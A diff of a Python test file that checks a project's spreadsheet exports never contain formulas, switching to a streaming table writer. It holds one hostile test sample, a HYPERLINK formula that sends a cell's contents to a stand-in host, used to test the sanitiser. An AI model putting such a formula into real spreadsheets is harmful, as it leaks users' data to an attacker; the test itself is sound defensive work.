@@ -10,7 +10,7 @@ from openpyxl import load_workbook
 
 from parcours.instruments.models import Answer, Response
 from parcours.reports.models import Round
-from parcours.spreadsheets import safe_cell, table_bytes
+from parcours.spreadsheets import safe_cell, stream_table
 from tests.reports.test_outputs import twelve  # noqa: F401 (fixture)
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -40,6 +40,12 @@ def _formulas(data: bytes) -> list[str]:
 def _cells(data: bytes) -> list:
     book = load_workbook(io.BytesIO(data))
     return [c.value for s in book.worksheets for row in s.iter_rows() for c in row]
+
+
+def table_bytes(fmt, header, rows) -> bytes:
+    out = io.BytesIO()
+    stream_table(fmt, header, rows, out)
+    return out.getvalue()
 
 
 def test_the_table_writer_never_writes_a_formula():
@@ -107,7 +113,7 @@ def test_the_evaluators_download_and_the_template_hold_no_formula(
     project,
 ):
     query = {"project": project.pk, "instrument": "client_summary_sheet", "format": "xlsx"}
-    assert _formulas(login(evaluator).get(reverse("reports:sheets"), query).content) == []
+    assert _formulas(login(evaluator).get(reverse("reports:sheets"), query).getvalue()) == []
     out = tmp_path / "template.xlsx"
     call_command(
         "export_template", "--instrument", "baseline", "-o", str(out), stdout=io.StringIO()
